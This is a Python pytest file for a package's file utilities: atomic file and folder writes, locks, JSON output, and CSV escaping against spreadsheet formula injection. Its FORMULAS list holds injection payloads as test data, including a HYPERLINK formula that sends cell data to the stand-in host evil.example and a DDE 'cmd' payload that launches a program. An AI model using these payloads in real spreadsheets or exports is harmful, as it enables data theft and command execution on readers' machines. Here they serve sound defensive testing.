import csv
import json
import multiprocessing
import os
import random
import re
import signal
import threading
import time
from pathlib import Path

import pandas as pd
import pytest

from retfound_hf.errors import OutputError
from retfound_hf.files import (
    atomic_file,
    atomic_folder,
    exclusive_folder,
    file_lock,
    guard,
    move_into,
    read_rows,
    rows_of_csv,
    unguard,
    with_formulas,
    write_json,
    write_table,
)


def names(folder) -> set[str]:
    return {path.name for path in folder.iterdir()}


@pytest.fixture
def umask():
    """Sets the umask for one test."""
    before = os.umask(0)
    yield os.umask
    os.umask(before)


class TestWholeFile:
    def test_appears_on_success(self, tmp_path):
        path = tmp_path / "deep" / "table.csv"
        with atomic_file(path) as partial:
            assert partial.parent == path.parent and partial.suffix == ".csv"
            partial.write_text("new")
            assert not path.exists()
        assert path.read_text() == "new"
        assert names(path.parent) == {"table.csv"}

    @pytest.mark.parametrize("stop", [RuntimeError, KeyboardInterrupt, SystemExit])
    def test_old_content_stays_when_stopped(self, tmp_path, stop):
        path = tmp_path / "table.csv"
        path.write_text("old")
        with pytest.raises(stop), atomic_file(path) as partial:
            partial.write_text("half")
            raise stop
        assert path.read_text() == "old"
        assert names(tmp_path) == {"table.csv"}

    @pytest.mark.parametrize(("mask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
    def test_permissions_follow_the_umask(self, tmp_path, umask, mask, mode):
        umask(mask)
        with atomic_file(tmp_path / "table.csv") as partial:
            partial.write_text("new")
        assert (tmp_path / "table.csv").stat().st_mode & 0o777 == mode


class TestWholeFolder:
    def test_appears_on_success(self, tmp_path):
        path = tmp_path / "deep" / "model"
        with atomic_folder(path) as partial:
            (partial / "a").write_text("new")
            assert not path.exists()
        assert names(path) == {"a"} and names(path.parent) == {"model"}

    @pytest.mark.parametrize("stop", [RuntimeError, KeyboardInterrupt])
    def test_nothing_is_left_when_stopped(self, tmp_path, stop):
        with pytest.raises(stop), atomic_folder(tmp_path / "model") as partial:
            (partial / "a").write_text("half")
            raise stop
        assert names(tmp_path) == set()

    def test_an_empty_folder_is_filled(self, tmp_path):
        (tmp_path / "model").mkdir()
        with atomic_folder(tmp_path / "model") as partial:
            (partial / "a").touch()
        assert names(tmp_path / "model") == {"a"}

    def test_a_full_folder_is_refused_unless_overwriting(self, tmp_path):
        path = tmp_path / "model"
        path.mkdir()
        (path / "old").write_text("mine")
        with pytest.raises(OutputError):
            atomic_folder(path).__enter__()
        assert names(tmp_path) == {"model"} and (path / "old").read_text() == "mine"
        with atomic_folder(path, overwrite=True) as partial:
            (partial / "new").touch()
            assert (path / "old").exists()
        assert names(path) == {"new"} and names(tmp_path) == {"model"}

    def test_a_file_of_the_name_is_refused(self, tmp_path):
        (tmp_path / "model").touch()
        with pytest.raises(OutputError):
            atomic_folder(tmp_path / "model", overwrite=True).__enter__()

    @pytest.mark.parametrize("stop", [RuntimeError, KeyboardInterrupt])
    def test_the_old_folder_stays_when_stopped(self, tmp_path, stop):
        path = tmp_path / "model"
        path.mkdir()
        (path / "old").touch()
        with pytest.raises(stop), atomic_folder(path, overwrite=True):
            raise stop
        assert names(path) == {"old"} and names(tmp_path) == {"model"}

    def test_the_old_folder_comes_back_when_the_last_move_is_stopped(self, tmp_path, monkeypatch):
        path = tmp_path / "model"
        path.mkdir()
        (path / "old").touch()
        move, calls = os.replace, []

        def second_fails(source, target):
            calls.append(source)
            if len(calls) == 2:
                raise KeyboardInterrupt
            move(source, target)

        monkeypatch.setattr(os, "replace", second_fails)
        with pytest.raises(KeyboardInterrupt), atomic_folder(path, overwrite=True) as partial:
            (partial / "new").touch()
        assert names(path) == {"old"} and names(tmp_path) == {"model"}

    def test_a_link_keeps_pointing_at_the_folder(self, tmp_path):
        (tmp_path / "disk").mkdir()
        (tmp_path / "model").symlink_to(tmp_path / "disk")
        with atomic_folder(tmp_path / "model", overwrite=True) as partial:
            (partial / "new").touch()
        assert (tmp_path / "model").is_symlink() and names(tmp_path / "disk") == {"new"}

    def test_permissions_follow_the_umask(self, tmp_path, umask):
        umask(0o027)
        with atomic_folder(tmp_path / "model"):
            pass
        assert (tmp_path / "model").stat().st_mode & 0o777 == 0o750


def test_move_into_adds_to_a_folder_with_the_configuration_last(tmp_path, monkeypatch):
    (tmp_path / "kept").write_text("old")
    order, move = [], os.replace
    monkeypatch.setattr(os, "replace", lambda source, target: order.append(target.name) or move(source, target))
    with move_into(tmp_path) as partial:
        for name in ("config.json", "model.safetensors", "README.md"):
            (partial / name).write_text("new")
        assert not (tmp_path / "config.json").exists()
    assert names(tmp_path) == {"kept", "config.json", "model.safetensors", "README.md"}
    assert order[-1] == "config.json"


def test_move_into_adds_nothing_when_stopped(tmp_path):
    with pytest.raises(KeyboardInterrupt), move_into(tmp_path) as partial:
        (partial / "config.json").write_text("half")
        raise KeyboardInterrupt
    assert names(tmp_path) == set()


FORK = multiprocessing.get_context("fork")  # a real process, without the seconds of importing torch anew


def write_and_sleep(kind: str, path: Path, began) -> None:
    with atomic_file(path) if kind == "file" else atomic_folder(path, overwrite=True) as partial:
        (partial if kind == "file" else partial / "content").write_text("half")
        began.set()
        time.sleep(60)


@pytest.mark.parametrize("kind", ["file", "folder"])
def test_old_content_survives_a_kill(kind, tmp_path):
    path = tmp_path / "output"
    content = path if kind == "file" else path / "content"
    content.parent.mkdir(exist_ok=True)
    content.write_text("old")
    began = FORK.Event()
    process = FORK.Process(target=write_and_sleep, args=(kind, path, began))
    process.start()
    assert began.wait(timeout=30)
    process.kill()
    process.join(timeout=30)
    assert process.exitcode == -signal.SIGKILL
    assert content.read_text() == "old"


class TestWriteJson:
    def test_writes_what_json_reads(self, tmp_path):
        value = {"auroc": 0.5, "auprc": None, "auroc_ci95": [0.1, 0.9], "name": "é"}
        write_json(tmp_path / "metrics.json", value)
        text = (tmp_path / "metrics.json").read_text(encoding="utf-8")
        assert json.loads(text) == value and text.endswith("}\n")

    @pytest.mark.parametrize("number", [float("nan"), float("inf")])
    def test_refuses_numbers_that_json_has_not(self, tmp_path, number):
        write_json(tmp_path / "metrics.json", {"auroc": 1})
        with pytest.raises(ValueError):
            write_json(tmp_path / "metrics.json", {"auroc": number})
        assert json.loads((tmp_path / "metrics.json").read_text()) == {"auroc": 1}
        assert names(tmp_path) == {"metrics.json"}


def test_readers_never_see_a_half_written_file(tmp_path):
    path = tmp_path / "metrics.json"
    write_json(path, list(range(2000)))
    writer = threading.Thread(target=lambda: [write_json(path, list(range(2000))) for _ in range(100)])
    writer.start()
    reads = 0
    while writer.is_alive():
        assert len(json.loads(path.read_text())) == 2000
        reads += 1
    writer.join()
    assert reads > 10


def make_if_absent(path: Path, name: str, made) -> None:
    with file_lock(path):
        if not path.exists():
            time.sleep(0.3)
            path.write_text(name)
            made.put(name)


def test_one_process_at_a_time_makes_a_file(tmp_path):
    path, made = tmp_path / "deep" / "made.txt", FORK.Queue()
    started = [FORK.Process(target=make_if_absent, args=(path, name, made)) for name in "ab"]
    for process in started:
        process.start()
    for process in started:
        process.join(timeout=60)
        assert process.exitcode == 0
    assert made.get(timeout=10) == path.read_text() and made.empty()
    assert [found.name for found in path.parent.iterdir()] == ["made.txt"]


def hold(folder: Path, began) -> None:
    with exclusive_folder(folder):
        began.set()
        time.sleep(600)


def test_a_folder_has_one_writer_until_it_ends(tmp_path, monkeypatch):
    monkeypatch.setattr("retfound_hf.files.PATIENCE", 0.2)
    folder, began = tmp_path / "out", FORK.Event()
    other = FORK.Process(target=hold, args=(folder, began))
    other.start()
    assert began.wait(timeout=30)
    with pytest.raises(OutputError), exclusive_folder(folder):
        pass
    other.kill()
    other.join(timeout=30)
    with exclusive_folder(folder):
        pass
    assert list(tmp_path.iterdir()) == []


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&B2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+2", "-x", "\t=1", "\r=1",
    " =1", "＝1", "a;=1+1", "a;b;@x", "a\n-1", "'=1", "''-1", ";=", "\t",
]  # fmt: skip
ORDINARY = ["eye.png", "a/b-c+d=e@f.jpg", "'quoted'", "o'neil", "a;b", "眼底", "", "007", "a\nb", "it's -1", "{=1}"]


class TestTables:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_no_cell_is_computed_whatever_ends_one(self, text):
        for cell in re.split("[;\t\r\n]", guard(text)):
            assert not re.match("\\s*[=+@＝＋－＠-]", cell)
        assert guard(text) != text and unguard(guard(text)) == text

    @pytest.mark.parametrize("text", ORDINARY)
    def test_ordinary_names_stay(self, text):
        assert guard(text) == unguard(text) == text

    def test_any_text_comes_back(self):
        letters = random.Random(0)
        for _ in range(20000):
            text = "".join(letters.choices("'=+-@ \t\r\n;ax＝\xa0", k=letters.randrange(9)))
            assert unguard(guard(text)) == text

    def test_names_come_back_from_the_file_and_numbers_stay(self, tmp_path):
        names = FORMULAS + ORDINARY
        table = pd.DataFrame({"id": names, "=group": pd.Categorical(names), "value": range(len(names)), "true": True})
        table["value"] = -table["value"] / 3
        write_table(tmp_path / "table.csv", table)
        with open(tmp_path / "table.csv", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or re.match("-[^0-9]", cell)]
        again = with_formulas(pd.read_csv(tmp_path / "table.csv", dtype={"id": str}, keep_default_na=False))
        assert list(again) == list(table) and again["id"].tolist() == names
        assert again["value"].tolist() == table["value"].tolist() and again["true"].all()
        assert [row["=group"] for row in read_rows(tmp_path / "table.csv")] == names

    def test_rows_that_are_written_one_by_one(self, tmp_path):
        with rows_of_csv(tmp_path / "rejected.csv", ("id", "reason")) as write:
            write(("=1+1", "cut short"))
            write(("a\rb", 3))
        rows = [{"id": "=1+1", "reason": "cut short"}, {"id": "a\rb", "reason": "3"}]
        assert read_rows(tmp_path / "rejected.csv") == rows
        assert "\n'=1+1,cut short\n" in (tmp_path / "rejected.csv").read_text()
